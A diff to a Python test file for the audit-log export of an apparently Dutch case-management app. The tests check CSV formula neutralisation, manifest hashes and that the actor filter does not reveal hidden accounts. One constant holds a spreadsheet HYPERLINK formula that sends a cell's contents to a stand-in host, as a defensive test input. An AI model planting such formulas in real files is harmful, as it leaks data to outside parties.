@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import hashlib
 import io
 import json
@@ -107,7 +108,7 @@ def test_filters_by_body_case_actor_and_period(app):
     memo_rows = exported(app, "auditor@ezk.test", case_id=memo)
     assert memo_rows and all(r["object_id"] == memo or r["main_object"] == f"cases/{memo}" for r in memo_rows)
     assert not exported(app, "auditor@noord-brabant.test", case_id=memo)
-    assert {r["actor_user_id"] for r in exported(app, "auditor@ezk.test", actor_id=author)} == {author}
+    assert {r["actor_user_id"] for r in exported(app, "auditor@ezk.test", actor="beleid@ezk.test")} == {author}
     from datetime import date
 
     march = exported(app, "auditor@ezk.test", start=date(2023, 3, 14), end=date(2023, 3, 14))
@@ -137,3 +138,78 @@ def test_bad_filters_get_a_message_and_no_download(clients):
     )
     page = response.get_data(as_text=True)
     assert response.status_code == 400 and "vóór de begindatum" in page and "geldig e-mailadres" in page
+
+
+#: What a participant might type to have a spreadsheet send a cell's neighbours elsewhere.
+FORMULA = '=HYPERLINK("https://evil.test/?d="&A1,"Klik")'
+
+
+def _file(app, email: str, form: str, selection: export.ExportFilter) -> tuple[bytes, export.Manifest]:
+    with in_app(app):
+        reader = user(email)
+        connection = db.session.connection()
+        manifest = export.start(connection, reader.email, selection, form)
+        data = b"".join(export.lines(export.readable(connection, reader, selection), form, manifest))
+    return data, manifest
+
+
+def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csv_and_exact_in_json_lines(app):
+    from datetime import date
+
+    from cases.models import CaseType
+    from cases.services import change_due_date, create_follow_up
+
+    with in_app(app):
+        bo = db.session.scalars(select(Body).where(Body.slug == "bo-brainport")).one()
+        secretariat = user("secretariaat@ezk.test")
+        action = create_follow_up(
+            secretariat,
+            bo,
+            case_type=CaseType.ACTIEPUNT,
+            title="Formuletest",
+            owner_organisation_id=secretariat.organisation_id,
+            due_date=date(2030, 1, 1),
+        )
+        change_due_date(secretariat, action, due_date=date(2030, 2, 1), reason=FORMULA)
+        action_id = action.id
+    selection = export.ExportFilter(case_id=action_id)
+    csv_data, csv_manifest = _file(app, "auditor@noord-brabant.test", "csv", selection)
+    jsonl_data, jsonl_manifest = _file(app, "auditor@noord-brabant.test", "jsonl", selection)
+
+    for data, manifest in ((csv_data, csv_manifest), (jsonl_data, jsonl_manifest)):
+        assert manifest.sha256 == hashlib.sha256(data).hexdigest()
+    rows = list(csv.DictReader(io.StringIO(csv_data.decode("utf-8"))))
+    assert len(rows) == csv_manifest.records == jsonl_manifest.records > 1
+    assert "'" + FORMULA in [row["reason"] for row in rows]
+    assert not [cell for row in rows for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@"))]
+    records = [json.loads(line) for line in jsonl_data.splitlines()]
+    assert FORMULA in [record["reason"] for record in records]
+
+
+def _download(client, actor: str) -> tuple[bytes, dict]:
+    response = client.post_form("/audit/export", {"form": "jsonl", "actor": actor})
+    assert response.status_code == 200 and response.mimetype == "application/zip"
+    archive = zipfile.ZipFile(io.BytesIO(response.data))
+    manifest = json.loads(archive.read("manifest.json"))
+    # What changes from one download to the next whatever is asked: the moment, the chain's head (each
+    # export is recorded), and the address as typed.
+    for moving in ("exported_at", "chain_head_seq", "chain_head_hash"):
+        manifest.pop(moving)
+    assert manifest["filters"].pop("actor") == actor
+    return archive.read("audittrail.jsonl"), manifest
+
+
+def test_the_actor_filter_does_not_tell_a_regio_auditor_which_rijk_addresses_have_an_account(app, clients):
+    clients("directeur.top@ezk.test")  # a sign-in: a record the Rijk side reads, the regio side does not
+    assert exported(app, "auditor@ezk.test", actor="directeur.top@ezk.test")
+    auditor = clients("auditor@noord-brabant.test")
+    hidden = _download(auditor, "directeur.top@ezk.test")
+    assert hidden == _download(auditor, "nobody@nowhere.test") == (b"", hidden[1])
+    assert hidden[1]["records"] == 0
+    # An actor whose records the regio auditor reads is found across sides, and only those records.
+    with in_app(app):
+        secretary = user("secretariaat@ezk.test").id
+    data, manifest = _download(auditor, "secretariaat@ezk.test")
+    secretariat = [json.loads(line) for line in data.splitlines()]
+    assert secretariat and {r["actor_user_id"] for r in secretariat} == {secretary}
+    assert manifest["records"] == len(secretariat) and b"27293059" not in data
